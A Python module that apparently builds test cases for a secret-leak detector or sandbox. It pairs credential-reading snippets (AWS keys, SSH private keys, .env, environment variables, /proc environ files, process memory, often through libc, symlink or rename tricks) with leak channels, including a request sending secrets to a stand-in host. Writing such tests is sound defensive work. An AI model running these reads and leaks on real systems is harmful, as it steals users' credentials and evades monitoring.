"""Handlers that let out what they find: of the home folder, of `.env`, of the environment."""

from __future__ import annotations

_SOURCES = {
    "aws": "read(HOME + '/.aws/credentials')",
    "home by user": "read(os.path.expanduser('~/.aws/credentials')) + read(HOME + '/.netrc')",
    "ssh in C": "read_in_c(HOME + '/.ssh/id_ed25519')",
    "docker": "read(HOME + '/.docker/config.json')",
    "git": "read(HOME + '/.git-credentials') + read(HOME + '/.npmrc')",
    "kube": (
        "subprocess.run(['cat', HOME + '/.kube/config'], capture_output=True, text=True).stdout"
    ),
    "dotenv": "read(FOLDER + '/.env')",
    "dotenv in C": "read_in_c(FOLDER + '/.env')",
    "environment": "str(dict(os.environ))",
    "named variables": "os.environ['DB_PASS'] + ' ' + os.environ['STRIPE_KEY']",
    "own environ file": "read('/proc/self/environ')",
    "parent environ file": (
        "read(f'/proc/{os.getppid()}/environ') + read(f'/proc/{PARENT}/environ')"
    ),
    "parent memory": "read_memory(PARENT)",
    "environment in C": "environment_in_c()",
    "links": "linked(HOME + '/.aws/credentials')",
    "program": "subprocess.run('env', capture_output=True, text=True).stdout",
    "process beside": "read(f'/proc/{VICTIM}/environ') + read_memory(VICTIM)",
    "program in C": "printed_in_c('cat ' + HOME + '/.aws/credentials .env; env')",
    "root of the parent": "read(f'/proc/{PARENT}/root' + HOME + '/.aws/credentials')",
    "path in parts": "in_parts('.aws', 'credentials') + in_parts('.ssh', 'id_ed25519')",
    "copy": "copied('.aws/credentials')",
    "moved folder": "moved('.ssh', 'id_ed25519')",
    "other interpreter": "of_other_interpreter(f'open({HOME!r} + \"/.netrc\").read()')",
    "environment of another": "of_other_interpreter('str(dict(os.environ))')",
}

_WAYS = {
    "raise": "raise ValueError(found)",
    "print": "print(found, flush=True); raise KeyError('x')",
    "log": "import logging; logging.error('with %s', found); raise KeyError('x')",
    "return": "return {'body': found, 'set': {1}}",
    "send": "import boto3; boto3.client('sns').publish(TopicArn='t', Message=found)",
    "url": (
        "import urllib.request; urllib.request.urlopen('http://x.example.invalid/?' + found[-99:])"
    ),
    "file": "open('stolen.txt', 'w').write(found); open(HOME + '/stolen', 'w').write(found)",
    "name of a file": "open('/'.join(['stolen', found[-60:].strip()]), 'w')",
    "bytes": "os.write(2, found.encode()); os._exit(5)",
    "base64": "import base64; raise ValueError(base64.b64encode(found.encode()).decode())",
    "reversed": "raise ValueError(found[::-1])",
    "hex": "raise ValueError(found.encode().hex())",
    "lines": "raise ValueError('\\n'.join(found[i : i + 9] for i in range(0, len(found), 9)))",
    "key": "return {found: 1, 2: {3}}",
    "class": "raise type('E' + ''.join(c for c in found if c.isalnum()), (Exception,), {})('x')",
    "cause": "raise KeyError('x') from ValueError(found)",
    "note": "e = KeyError('x'); e.add_note(found); raise e",
    "exit": "sys.exit(found)",
    "warning": "import warnings; warnings.warn(found); raise KeyError('x')",
    "thread": (
        "def late(): raise ValueError(found)\n"
        "t = threading.Thread(target=late); t.start(); t.join(); raise KeyError('x')"
    ),
    "program": "subprocess.run(['echo', found]); raise KeyError('x')",
    "function": (
        "exec(compile('def ' + 'f' + ''.join(c for c in found if c.isalnum()) + '(): 1/0', "
        "found[:50].replace(chr(0), ''), 'exec'), space := {}); [f() for n, f in space.items() "
        "if n.startswith('f')]"
    ),
    "title": "LIBC.prctl(15, found.encode()[-15:], 0, 0, 0); raise KeyError('x')",
}

HELP = """
def read(place):
    try:
        return open(place, errors='replace').read()
    except OSError as error:
        return f'no {error.errno}'

def read_in_c(place):
    text = ctypes.create_string_buffer(2000)
    file = LIBC.open(place.encode(), os.O_RDONLY)
    LIBC.read(file, text, 1999)
    return text.value.decode(errors='replace')

def read_memory(process):
    try:
        for line in open(f'/proc/{process}/maps'):
            if '[stack]' in line:
                begin, end = (int(n, 16) for n in line.split()[0].split('-'))
                memory = os.open(f'/proc/{process}/mem', os.O_RDONLY)
                return os.pread(memory, end - begin, begin)[-9000:].decode('latin-1')
    except OSError as error:
        return f'no {error.errno}'
    return ''

def environment_in_c():
    LIBC.getenv.restype = ctypes.c_char_p
    names = 'DB_PASS', 'STRIPE_KEY', 'CI_JOB_TOKEN'
    return ' '.join(str(LIBC.getenv(name.encode())) for name in names)

def printed_in_c(command):
    place = os.environ['TMPDIR'] + '/printed'
    LIBC.system(f'({command}) >{place} 2>/dev/null'.encode())
    return read_in_c(place)

def in_parts(folder, file):
    LIBC.chdir(HOME.encode())
    inside = LIBC.openat(LIBC.open(b'.', os.O_RDONLY), folder.encode(), os.O_RDONLY)
    text = ctypes.create_string_buffer(2000)
    LIBC.read(LIBC.openat(inside, file.encode(), os.O_RDONLY), text, 1999)
    return text.value.decode(errors='replace')

def copied(place):
    with contextlib.suppress(OSError):
        os.link(HOME + '/' + place, 'copy')
    with contextlib.suppress(OSError):
        shutil.copytree(HOME, 'home')
    LIBC.link((HOME + '/' + place).encode(), (os.environ['TMPDIR'] + '/copy').encode())
    return ' '.join(read(p) for p in ('copy', 'home/' + place, os.environ['TMPDIR'] + '/copy'))

def moved(folder, file):
    with contextlib.suppress(OSError):
        os.rename(HOME + '/' + folder, HOME + '/other')
    LIBC.rename((HOME + '/' + folder).encode(), (HOME + '/other').encode())
    return read(HOME + '/other/' + file) + read_in_c(HOME + '/other/' + file)

def of_other_interpreter(expression):
    place = os.environ['TMPDIR'] + '/told'
    in_other_interpreter(f'import os\\nopen({place!r}, "w").write({expression})')
    return read_in_c(place)

def linked(place):
    LIBC.symlink(place.encode(), (os.environ['TMPDIR'] + '/l').encode())
    return read(os.environ['TMPDIR'] + '/l')
"""


def _paired() -> dict[str, str]:
    """Every source and every way, each several times."""
    sources, ways = list(_SOURCES.items()), list(_WAYS.items())
    pairs = {}
    for number in range(3 * len(sources)):
        source, found = sources[number % len(sources)]
        way, body = ways[(number + number // len(sources)) % len(ways)]
        pairs[f"{way} {source}"] = f"found = {found}\n{body}"
    return pairs


BODIES = _paired()
BEFORE = {
    "raise while loading": "raise ValueError(read(FOLDER + '/.env') + os.environ['DB_PASS'])",
    "exit while loading": "print(os.environ['GITHUB_PAT'], flush=True); sys.exit(str(os.environ))",
    "die while loading": (
        "os.write(1, str(os.environ).encode() + read('.env').encode()); os._exit(9)"
    ),
}
